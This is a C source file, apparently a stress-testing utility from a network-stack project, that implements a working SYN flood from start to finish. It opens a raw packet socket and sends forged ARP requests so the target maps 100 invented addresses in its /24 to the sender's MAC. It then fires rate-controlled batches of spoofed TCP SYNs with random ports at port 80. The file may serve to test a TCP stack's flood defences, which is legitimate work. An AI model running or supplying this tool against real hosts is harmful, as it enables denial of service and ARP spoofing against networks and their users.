/* SPDX-License-Identifier: BSD-3-Clause
 * Copyright (c) 2026 the pagewire authors
 *
 * A SYN flood: from made-up hosts and ports, so many a second.
 *
 *	synflood --rate N --seconds S INTERFACE OUR-MAC THEIR-MAC THEIR-ADDRESS
 *
 * The hosts are those of THEIR-ADDRESS's /24 from .100 to .199. Each sends an ARP
 * request first, from which THEIR-ADDRESS learns where it is. Ends by printing
 * "sent N in S s".
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <net/if.h>
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <netinet/ether.h>
#include <sys/socket.h>
#include "pw_rand.h"
#include "pw_wire_arp.h"
#include "pw_wire_cksum.h"
#include "pw_wire_eth.h"
#include "pw_wire_ip4.h"
#include "pw_wire_tcp.h"

#define BATCH	   64
#define HOSTS	   100
#define FIRST_HOST 100
#define FRAME_LEN  (PW_ETH_HLEN + PW_IP4_HLEN + PW_TCP_HLEN_MIN + PW_TCP_OPT_MAX)

struct flood {
	int fd;
	uint64_t rate;
	pw_ns length;
	uint8_t src_mac[PW_ETH_ADDR_LEN];
	uint8_t dst_mac[PW_ETH_ADDR_LEN];
	struct pw_addr dst;
	struct pw_rand rand;
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	uint8_t frames[BATCH][FRAME_LEN];
};

static void
die(const char *what)
{
	fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static pw_ns
clock_now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (pw_ns)ts.tv_sec * PW_NS_PER_S + (pw_ns)ts.tv_nsec;
}

static struct pw_addr
host(const struct flood *f, uint32_t i)
{
	uint32_t net = rte_be_to_cpu_32(pw_addr_get_v4(&f->dst)) & 0xffffff00u;

	return pw_addr_v4(rte_cpu_to_be_32(net | (FIRST_HOST + i)));
}

static uint32_t
make_syn(struct flood *f, uint8_t *p)
{
	struct pw_addr src = host(f, (uint32_t)pw_rand_below(&f->rand, HOSTS));
	struct pw_tcp_opts o = {.has = PW_OPT_MSS | PW_OPT_SACK_OK | PW_OPT_TS | PW_OPT_WSCALE,
		.mss = 1460,
		.wscale = 7,
		.ts_val = (uint32_t)pw_rand_u64(&f->rand)};
	uint8_t opts[PW_TCP_OPT_MAX];
	struct pw_tcp_hdr tcp = {
		.sport = (uint16_t)(1024 + pw_rand_below(&f->rand, 64000)),
		.dport = 80,
		.seq = (uint32_t)pw_rand_u64(&f->rand),
		.wnd = 64240,
		.flags = PW_TCP_SYN,
		.opt_len = (uint8_t)pw_tcp_put_syn_opts(opts, &o),
	};
	struct pw_ip4_hdr ip = {.src = src, .dst = f->dst, .df = true, .ttl = 64, .proto = 6};
	uint8_t *l4 = p + PW_ETH_HLEN + PW_IP4_HLEN;
	uint32_t len = pw_tcp_emit(l4, &tcp, opts);
	uint16_t sum = pw_sum_add(pw_sum_pseudo(&src, &f->dst, 6, len), pw_sum(l4, len));

	sum = pw_sum_finish(sum);
	memcpy(l4 + 16, &sum, sizeof(sum));
	ip.total_len = (uint16_t)(PW_IP4_HLEN + len);
	pw_eth_emit(p, f->dst_mac, f->src_mac, PW_ETH_TYPE_IP4);
	pw_ip4_emit(p + PW_ETH_HLEN, &ip);
	return PW_ETH_HLEN + PW_IP4_HLEN + len;
}

/* Each host says who it is, so that it is answered at once. */
static void
introduce(struct flood *f)
{
	uint32_t i;

	for (i = 0; i < HOSTS; i++) {
		struct pw_arp arp = {.op = PW_ARP_REQUEST, .spa = host(f, i), .tpa = f->dst};
		uint8_t p[60] = {0};

		memcpy(arp.sha, f->src_mac, PW_ETH_ADDR_LEN);
		pw_eth_emit(p, f->dst_mac, f->src_mac, PW_ETH_TYPE_ARP);
		pw_arp_emit(p + PW_ETH_HLEN, &arp);
		if (send(f->fd, p, sizeof(p), 0) < 0)
			die("send");
	}
}

static uint64_t
send_batch(struct flood *f, uint32_t n)
{
	uint32_t i;
	int sent;

	for (i = 0; i < n; i++) {
		f->iov[i] = (struct iovec){f->frames[i], make_syn(f, f->frames[i])};
		f->msgs[i].msg_hdr = (struct msghdr){.msg_iov = &f->iov[i], .msg_iovlen = 1};
	}
	sent = sendmmsg(f->fd, f->msgs, n, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EAGAIN)
		die("sendmmsg");
	return sent > 0 ? (uint64_t)sent : 0;
}

static void
run(struct flood *f)
{
	pw_ns begin = clock_now(), now = begin;
	uint64_t sent = 0;

	for (; now - begin < f->length; now = clock_now()) {
		uint64_t due = (uint64_t)((double)(now - begin) * (double)f->rate / PW_NS_PER_S);

		if (due <= sent) {
			usleep(500);
			continue;
		}
		sent += send_batch(f, (uint32_t)pw_min(due - sent, BATCH));
	}
	printf("sent %" PRIu64 " in %.3f s\n", sent, (double)(now - begin) / PW_NS_PER_S);
}

static void
open_link(struct flood *f, const char *name)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET};

	to.sll_ifindex = (int)if_nametoindex(name);
	f->fd = socket(AF_PACKET, SOCK_RAW, 0); /* protocol 0: nothing is received */
	if (to.sll_ifindex == 0 || f->fd < 0 ||
		bind(f->fd, (struct sockaddr *)&to, sizeof(to)) != 0)
		die(name);
}

static void
read_mac(const char *text, uint8_t mac[PW_ETH_ADDR_LEN])
{
	const struct ether_addr *a = ether_aton(text);

	if (a == NULL) {
		errno = EINVAL;
		die(text);
	}
	memcpy(mac, a, PW_ETH_ADDR_LEN);
}

int
main(int argc, char **argv)
{
	static const struct option options[] = {
		{"rate", required_argument, NULL, 'r'},
		{"seconds", required_argument, NULL, 's'},
		{0},
	};
	static struct flood f = {.rate = 50000, .length = 5 * PW_NS_PER_S};
	struct in_addr dst;
	int opt;

	while ((opt = getopt_long(argc, argv, "", options, NULL)) != -1) {
		if (opt == 'r')
			f.rate = strtoull(optarg, NULL, 10);
		else if (opt == 's')
			f.length = (pw_ns)(strtod(optarg, NULL) * PW_NS_PER_S);
		else
			return 2;
	}
	if (argc - optind != 4 || inet_aton(argv[optind + 3], &dst) == 0) {
		fprintf(stderr, "usage: synflood [--rate N] [--seconds S] INTERFACE OUR-MAC "
				"THEIR-MAC THEIR-ADDRESS\n");
		return 2;
	}
	read_mac(argv[optind + 1], f.src_mac);
	read_mac(argv[optind + 2], f.dst_mac);
	f.dst = pw_addr_v4(dst.s_addr);
	pw_rand_init(&f.rand, 1);
	open_link(&f, argv[optind]);
	introduce(&f);
	run(&f);
	return 0;
}
